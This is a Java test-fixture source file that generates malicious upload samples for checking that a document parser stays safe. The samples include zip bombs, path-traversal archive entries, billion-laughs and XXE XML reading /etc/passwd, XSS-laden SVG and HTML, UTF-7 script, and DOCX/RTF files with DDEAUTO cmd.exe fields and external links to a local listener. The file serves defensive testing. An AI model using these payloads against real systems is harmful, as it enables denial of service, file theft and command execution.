package de.federwerk.datei;

import java.io.BufferedOutputStream;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * Files as somebody sends them who means harm, made on the spot. Each says what must come of it; what all have in common (bounded
 * time, memory and disk, nothing fetched, the next file is read) is checked by who reads them.
 */
final class Giftschrank {

    /** What must come of a file. */
    enum Folge {
        /** It stays as it is and has no text: nobody opens an archive. */
        UNGEOEFFNET,
        /** It is read, with or without a note. */
        GELESEN,
        /** It is read in part, and the note says so. */
        GEKUERZT,
        /** It is not read, and the German reason says why. */
        GESCHEITERT,
        /** Read or not: only the limits count. */
        EGAL,
        /** It makes a worker stop that takes too long or too much. */
        BEENDET
    }

    /** Writes the bytes of one file. */
    @FunctionalInterface
    interface Schreiber {
        void schreibe(OutputStream aus) throws IOException;
    }

    /**
     * @param wort must stand in the text, reason or note; null if nothing in particular
     */
    record Stueck(String name, Folge folge, String wort, Schreiber inhalt) {

        Path schreibe(Path ordner) {
            var ziel = ordner.resolve(name);
            try (var aus = new BufferedOutputStream(Files.newOutputStream(ziel), 1 << 16)) {
                inhalt.schreibe(aus);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            return ziel;
        }
    }

    private final List<Stueck> stuecke = new ArrayList<>();
    /** Size of the bombs in MiB after unpacking. */
    private final int mib;
    /** Where somebody listens who must hear nothing. */
    private final String draussen;

    private Giftschrank(int mib, int lauscher) {
        this.mib = mib;
        this.draussen = "http://127.0.0.1:" + lauscher;
    }

    /**
     * @param mib size of each bomb in MiB after unpacking
     * @param lauscher port on this machine to which all references point
     */
    static List<Stueck> alle(int mib, int lauscher) {
        var schrank = new Giftschrank(mib, lauscher);
        schrank.archive();
        schrank.xml();
        schrank.buero();
        schrank.text();
        schrank.stuecke.addAll(GiftigePdfs.alle(mib, schrank.draussen));
        schrank.stuecke.addAll(GiftigeBilder.alle(mib));
        schrank.stuecke.addAll(GiftigeMails.alle(schrank.draussen));
        return schrank.stuecke;
    }

    static byte[] b(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static void wiederhole(OutputStream aus, String text, long male) throws IOException {
        int je = (int) Math.max(1, Math.min(male, (1 << 20) / text.length()));
        byte[] stueck = b(text.repeat(je));
        for (long i = 0; i < male / je; i++) {
            aus.write(stueck);
        }
        aus.write(b(text.repeat((int) (male % je))));
    }

    private void lege(String name, Folge folge, String wort, Schreiber inhalt) {
        stuecke.add(new Stueck(name, folge, wort, inhalt));
    }

    private void lege(String name, Folge folge, String wort, String inhalt) {
        lege(name, folge, wort, aus -> aus.write(b(inhalt)));
    }

    private static void eintrag(ZipOutputStream zip, String name, Schreiber inhalt) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        inhalt.schreibe(zip);
        zip.closeEntry();
    }

    private static Schreiber zip(Object... namenUndInhalte) {
        return aus -> {
            var zip = new ZipOutputStream(aus);
            for (int i = 0; i < namenUndInhalte.length; i += 2) {
                var inhalt = namenUndInhalte[i + 1];
                eintrag(
                        zip,
                        (String) namenUndInhalte[i],
                        inhalt instanceof Schreiber s ? s : ziel -> ziel.write(b((String) inhalt)));
            }
            zip.finish();
        };
    }

    private void archive() {
        lege("bombe.zip", Folge.UNGEOEFFNET, null, zip("null.bin", (Schreiber)
                z -> wiederhole(z, "\0", (long) mib << 20)));
        lege("schachtel.zip", Folge.UNGEOEFFNET, null, aus -> {
            byte[] innen = b("Kern");
            for (int i = 0; i < 50; i++) {
                var bytes = new java.io.ByteArrayOutputStream();
                byte[] kern = innen;
                zip("innen.zip", (Schreiber) z -> z.write(kern), "noch.zip", (Schreiber)
                                z -> z.write(kern, 0, Math.min(9, kern.length)))
                        .schreibe(bytes);
                innen = bytes.toByteArray();
            }
            aus.write(innen);
        });
        lege("gewimmel.zip", Folge.UNGEOEFFNET, null, aus -> {
            var zip = new ZipOutputStream(aus);
            for (int i = 0; i < 70_000; i++) {
                zip.putNextEntry(new ZipEntry("../../" + i));
            }
            zip.finish();
        });
    }

    private static final String GELAECHTER;

    static {
        var dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY l0 \"Gelaechter \">");
        for (int i = 1; i < 12; i++) {
            dtd.append("<!ENTITY l%d \"%s\">".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
        }
        GELAECHTER = dtd + "]>";
    }

    private String fremdeEntitaeten() {
        return "<!DOCTYPE a [<!ENTITY % p SYSTEM \"" + draussen
                + "/p.dtd\"> %p; <!ENTITY d SYSTEM \"file:///etc/passwd\"> <!ENTITY n SYSTEM \"" + draussen + "/n\">]>";
    }

    private void xml() {
        lege("gelaechter.xml", Folge.GELESEN, null, "<?xml version=\"1.0\"?>" + GELAECHTER + "<a>&l11;</a>");
        lege("fremde.xml", Folge.GELESEN, null, "<?xml version=\"1.0\"?>" + fremdeEntitaeten() + "<a>Text &d;&n;</a>");
        lege(
                "fremde.svg",
                Folge.GELESEN,
                null,
                "<?xml version=\"1.0\"?>" + fremdeEntitaeten()
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text>Plan &d;</text></svg>");
        lege(
                "gelaechter.svg",
                Folge.GELESEN,
                null,
                GELAECHTER + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&l11;</text></svg>");
        lege(
                "skript.svg",
                Folge.GELESEN,
                "Lageplan",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"window.xss=1\">"
                        + "<script>window.xss=1</script><script href=\"" + draussen + "/s.js\"/><image href=\""
                        + draussen + "/b.png\"/>"
                        + "<style>@import url(" + draussen + "/c.css);</style><use href=\"" + draussen + "/u.svg#x\"/>"
                        + "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"" + draussen
                        + "/f\"/>"
                        + "<img src=\"x\" onerror=\"window.xss=1\"/></body></foreignObject><a href=\"javascript:window.xss=1\"><text>Lageplan</text></a></svg>");
        lege("tief.xml", Folge.GELESEN, null, aus -> {
            wiederhole(aus, "<a>", 1_000_000);
            wiederhole(aus, "</a>", 1_000_000);
        });
        lege("attribute.xml", Folge.GELESEN, null, aus -> {
            aus.write(b("<a "));
            for (int i = 0; i < 200_000; i++) {
                aus.write(b("a" + i + "=\"x\" "));
            }
            aus.write(b(">Text</a>"));
        });
        lege("leerzeilen.xml", Folge.GELESEN, "Ende", aus -> {
            aus.write(b("<a>Anfang"));
            wiederhole(aus, "\n ", 2_000_000);
            aus.write(b("Ende</a>"));
        });
        lege("umbrueche.xml", Folge.GELESEN, "Ende", aus -> {
            aus.write(b("<a>Anfang"));
            wiederhole(aus, "\n<b/>", 1_000_000);
            aus.write(b("Ende</a>"));
        });
    }

    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
            + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" "
            + "xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\" "
            + "xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" "
            + "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static String beziehung(String id, String art, String ziel) {
        return "<Relationship Id=\"%s\" Type=\"%s%s\" Target=\"%s\" TargetMode=\"External\"/>"
                .formatted(id, REL, art, ziel);
    }

    private static String beziehungen(String... einzelne) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + String.join("", einzelne) + "</Relationships>";
    }

    /** A docx with one part exchanged or added. */
    private static Schreiber docx(Object... teile) {
        return aus -> {
            var zip = new ZipOutputStream(aus);
            var anders = new ArrayList<Object>(Arrays.asList(teile));
            var quelle = new ZipInputStream(new ByteArrayInputStream(Muster.docx("Antrag auf Wohngeld")));
            for (var eintrag = quelle.getNextEntry(); eintrag != null; eintrag = quelle.getNextEntry()) {
                if (!anders.contains(eintrag.getName())) {
                    eintrag(zip, eintrag.getName(), quelle::transferTo);
                }
            }
            for (int i = 0; i < teile.length; i += 2) {
                var inhalt = teile[i + 1];
                eintrag(zip, (String) teile[i], inhalt instanceof Schreiber s ? s : z -> z.write(b((String) inhalt)));
            }
            zip.finish();
        };
    }

    private void buero() {
        lege("bombe.docx", Folge.GESCHEITERT, "Archivbombe", docx("word/document.xml", (Schreiber) z -> {
            z.write(b("<w:document " + W + "><w:body><w:p><w:r><w:t>"));
            wiederhole(z, "a", (long) mib << 20);
            z.write(b("</w:t></w:r></w:p></w:body></w:document>"));
        }));
        lege("leerraum.docx", Folge.GELESEN, "Ende", docx("word/document.xml", (Schreiber) z -> {
            z.write(b("<w:document " + W + "><w:body><w:p><w:r><w:t>Anfang"));
            for (int i = 0; i < 60_000; i++) {
                z.write(b(" \t \t \t \t \t \t \t" + (char) ('a' + i * 31 % 26) + (char) ('a' + i * 7 % 23)));
            }
            wiederhole(z, " ", 300_000);
            z.write(b("Ende</w:t></w:r></w:p></w:body></w:document>"));
        }));
        lege("tief.docx", Folge.GESCHEITERT, null, docx("word/document.xml", (Schreiber) z -> {
            z.write(b("<w:document " + W + "><w:body>"));
            wiederhole(z, "<w:tbl><w:tr><w:tc>", 100_000);
            wiederhole(z, "</w:tc></w:tr></w:tbl>", 100_000);
            z.write(b("</w:body></w:document>"));
        }));
        lege(
                "gelaechter.docx",
                Folge.GESCHEITERT,
                null,
                docx(
                        "word/document.xml",
                        "<?xml version=\"1.0\"?>" + GELAECHTER + "<w:document " + W
                                + "><w:body><w:p><w:r><w:t>&l11;</w:t></w:r></w:p></w:body></w:document>"));
        lege(
                "entitaeten.docx",
                Folge.GEKUERZT,
                null,
                docx(
                        "word/document.xml",
                        "<?xml version=\"1.0\"?>" + fremdeEntitaeten() + "<w:document " + W
                                + "><w:body><w:p><w:r><w:t>x&d;&n;</w:t></w:r></w:p></w:body></w:document>"));
        lege("gewimmel.docx", Folge.GESCHEITERT, "Archivbombe", aus -> {
            var zip = new ZipOutputStream(aus);
            docxTeile(zip);
            for (int i = 0; i < 20_000; i++) {
                eintrag(zip, "word/media/" + i + ".png", z -> {});
            }
            zip.finish();
        });
        lege(
                "fremde.docx",
                Folge.GEKUERZT,
                "Wohngeld",
                docx(
                        "word/_rels/settings.xml.rels",
                        beziehungen(beziehung("rId1", "attachedTemplate", draussen + "/vorlage.dotm")),
                        "word/_rels/document.xml.rels",
                        beziehungen(
                                beziehung("rId11", "image", draussen + "/bild.png"),
                                beziehung("rId12", "oleObject", draussen + "/ole.xlsx"),
                                beziehung("rId13", "aFChunk", draussen + "/teil.html"),
                                beziehung("rId14", "frame", draussen + "/rahmen.htm"),
                                beziehung("rId15", "image", "\\\\127.0.0.1\\freigabe\\b.png"),
                                "<Relationship Id=\"rId16\" Type=\"" + REL + "settings\" Target=\"settings.xml\"/>"),
                        "word/settings.xml",
                        "<w:settings " + W
                                + "><w:attachedTemplate r:id=\"rId1\"/><w:updateFields w:val=\"true\"/></w:settings>",
                        "word/document.xml",
                        "<w:document " + W + "><w:body><w:p><w:r><w:t>Antrag auf Wohngeld</w:t></w:r></w:p>"
                                + "<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"9144\" cy=\"9144\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:blipFill><a:blip r:link=\"rId11\"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
                                + "<w:p><w:r><w:pict><v:shape style=\"width:10pt;height:10pt\"><v:imagedata r:id=\"rId15\"/></v:shape></w:pict></w:r></w:p>"
                                + "<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet.12\" ShapeID=\"s\" DrawAspect=\"Content\" r:id=\"rId12\" UpdateMode=\"Always\"/></w:object></w:r></w:p>"
                                + "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>"
                                + "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;" + draussen
                                + "/feld.png&quot; \\d \"><w:r><w:t>bild</w:t></w:r></w:fldSimple></w:p>"
                                + "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;" + draussen
                                + "/feld.docx&quot; \"><w:r><w:t>text</w:t></w:r></w:fldSimple></w:p>"
                                + "<w:altChunk r:id=\"rId13\"/></w:body></w:document>"));
        lege(
                "bombe.xlsx",
                Folge.GESCHEITERT,
                "Archivbombe",
                tabelle(
                        (Schreiber) z -> {
                            z.write(
                                    b(
                                            "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>"));
                            wiederhole(z, "b", (long) mib << 20);
                            z.write(b("</t></si></sst>"));
                        },
                        "<c r=\"A1\" t=\"s\"><v>0</v></c>"));
        lege(
                "endlos.xlsx",
                Folge.GELESEN,
                "4711",
                tabelle(
                        "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>",
                        "<c r=\"A1\"><v>4711</v></c></row><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c>"));
        lege(
                "webabfrage.xlsx",
                Folge.GELESEN,
                "7",
                tabelle(
                        "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>",
                        "<c r=\"A1\"><f>WEBSERVICE(\"" + draussen + "/w\")</f><v>7</v></c><c r=\"B1\"><f>'" + draussen
                                + "/[a.xlsx]T'!A1</f><v>8</v></c>"));
        lege("bombe.odt", Folge.GESCHEITERT, "Archivbombe", odf("text", (Schreiber) z -> {
            z.write(b("<office:text><text:p>"));
            wiederhole(z, "c", (long) mib << 20);
            z.write(b("</text:p></office:text>"));
        }));
        lege(
                "leerzeichen.odt",
                Folge.GELESEN,
                "Antrag",
                odf("text", "<office:text><text:p>Antrag<text:s text:c=\"2000000000\"/></text:p></office:text>"));
        lege(
                "wiederholt.ods",
                Folge.GELESEN,
                null,
                odf(
                        "spreadsheet",
                        "<office:spreadsheet><table:table table:name=\"T\"><table:table-row table:number-rows-repeated=\"1048576\">"
                                + "<table:table-cell table:number-columns-repeated=\"16384\" office:value-type=\"string\"><text:p>Zelle</text:p></table:table-cell>"
                                + "</table:table-row></table:table></office:spreadsheet>"));
        lege(
                "fremde.odt",
                Folge.GELESEN,
                "Antrag",
                odf(
                        "text",
                        "<office:text><text:p>Antrag<draw:frame svg:width=\"1cm\" svg:height=\"1cm\"><draw:image xlink:href=\""
                                + draussen
                                + "/b.png\" xlink:actuate=\"onLoad\"/></draw:frame></text:p><text:section text:name=\"S\"><text:section-source xlink:href=\""
                                + draussen + "/s.odt\"/></text:section><draw:frame><draw:object xlink:href=\""
                                + draussen + "/o\"/></draw:frame>"
                                + "<draw:frame><draw:floating-frame xlink:href=\"" + draussen
                                + "/f\"/></draw:frame></office:text>"));
        lege(
                "fremde.rtf",
                Folge.GELESEN,
                "Bescheid",
                "{\\rtf1\\ansi\\pard Bescheid\\par {\\*\\template " + draussen
                        + "/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE \"" + draussen
                        + "/r.png\" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst DDEAUTO cmd calc}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}");
        lege("tief.rtf", Folge.GELESEN, null, aus -> {
            aus.write(b("{\\rtf1 "));
            wiederhole(aus, "{", 300_000);
            aus.write(b("Kern"));
            wiederhole(aus, "}", 300_001);
        });
        lege("kaputt.doc", Folge.GESCHEITERT, "beschädigt", aus -> {
            aus.write(
                    new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
                    });
            var zufall = new java.util.Random(1);
            byte[] rest = new byte[60_000];
            zufall.nextBytes(rest);
            aus.write(rest);
        });
    }

    private static void docxTeile(ZipOutputStream zip) throws IOException {
        var quelle = new ZipInputStream(new ByteArrayInputStream(Muster.docx("Antrag auf Wohngeld")));
        for (var eintrag = quelle.getNextEntry(); eintrag != null; eintrag = quelle.getNextEntry()) {
            eintrag(zip, eintrag.getName(), quelle::transferTo);
        }
    }

    private static Schreiber tabelle(Object texte, String zellen) {
        var s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        return zip(
                "[Content_Types].xml",
                "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                        + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                        + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                        + "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/></Types>",
                "_rels/.rels",
                beziehungen("<Relationship Id=\"r\" Type=\"" + REL + "officeDocument\" Target=\"xl/workbook.xml\"/>"),
                "xl/workbook.xml",
                "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + REL.substring(0, REL.length() - 1)
                        + "\"><sheets><sheet name=\"T\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>",
                "xl/_rels/workbook.xml.rels",
                beziehungen(
                        "<Relationship Id=\"r1\" Type=\"" + REL + "worksheet\" Target=\"worksheets/sheet1.xml\"/>",
                        "<Relationship Id=\"r2\" Type=\"" + REL + "sharedStrings\" Target=\"sharedStrings.xml\"/>"),
                "xl/worksheets/sheet1.xml",
                "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\">" + zellen + "</row></sheetData></worksheet>",
                "xl/sharedStrings.xml",
                texte);
    }

    private static Schreiber odf(String art, Object inhalt) {
        var typ = "application/vnd.oasis.opendocument." + art;
        return aus -> {
            var zip = new ZipOutputStream(aus);
            var mime = new ZipEntry("mimetype");
            mime.setMethod(ZipEntry.STORED);
            mime.setSize(typ.length());
            var summe = new java.util.zip.CRC32();
            summe.update(b(typ));
            mime.setCrc(summe.getValue());
            zip.putNextEntry(mime);
            zip.write(b(typ));
            eintrag(
                    zip,
                    "META-INF/manifest.xml",
                    z -> z.write(
                            b(
                                    "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\""
                                            + typ
                                            + "\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>")));
            eintrag(zip, "content.xml", z -> {
                var o = "urn:oasis:names:tc:opendocument:xmlns:";
                z.write(b("<office:document-content xmlns:office=\"" + o + "office:1.0\" xmlns:text=\"" + o
                        + "text:1.0\" xmlns:table=\"" + o + "table:1.0\" xmlns:draw=\"" + o
                        + "drawing:1.0\" xmlns:svg=\"" + o
                        + "svg-compatible:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><office:body>"));
                if (inhalt instanceof Schreiber s) {
                    s.schreibe(z);
                } else {
                    z.write(b((String) inhalt));
                }
                z.write(b("</office:body></office:document-content>"));
            });
            zip.finish();
        };
    }

    static byte[] odt(String inhalt) {
        var aus = new java.io.ByteArrayOutputStream();
        try {
            odf("text", inhalt).schreibe(aus);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return aus.toByteArray();
    }

    private void text() {
        lege("zeile.txt", Folge.GELESEN, "Ende", aus -> {
            wiederhole(aus, "x", 9_000_000);
            aus.write(b(" Ende"));
        });
        lege("lang.csv", Folge.GEKUERZT, "Anfang", aus -> wiederhole(aus, "Müller;Köln;4711\n", 3_000_000));
        lege("nullen.txt", Folge.GELESEN, null, aus -> wiederhole(aus, "\0a\0", 1_000_000));
        lege("utf7.txt", Folge.GELESEN, "ADw", "+ADw-script+AD4-window.xss=1+ADw-/script+AD4-");
        lege("tief.html", Folge.GELESEN, "Kern", aus -> {
            wiederhole(aus, "<div><b>", 100_000);
            aus.write(b("Kern"));
        });
        lege("attribute.html", Folge.GELESEN, null, aus -> {
            aus.write(b("<p "));
            for (int i = 0; i < 100_000; i++) {
                aus.write(b("a" + i + "=x "));
            }
            aus.write(b(">Text"));
        });
        lege("gross.html", Folge.GEKUERZT, "Anfang", aus -> wiederhole(aus, "<p>Absatz <b>fett</b></p>\n", 1_500_000));
        lege("zeichensatz.html", Folge.GELESEN, "Text", "<html><meta charset=\"kein-solcher\"><body>Text");
        lege(
                "fremde.html",
                Folge.GELESEN,
                "Mahnung",
                "<html><head><meta http-equiv=\"refresh\" content=\"0;url=" + draussen + "/m\"><base href=\"" + draussen
                        + "/\"><link rel=stylesheet href=\"" + draussen + "/c.css\"><style>@import url(" + draussen
                        + "/i.css)</style></head><body onload=\"window.xss=1\">Mahnung<img src=\"" + draussen
                        + "/zaehler.gif\"><script src=\"" + draussen + "/s.js\"></script><iframe src=\"" + draussen
                        + "/f\"></iframe><object data=\"" + draussen + "/o\"></object><form action=\"" + draussen
                        + "/x\"><input name=kennwort></form></body></html>");
    }
}
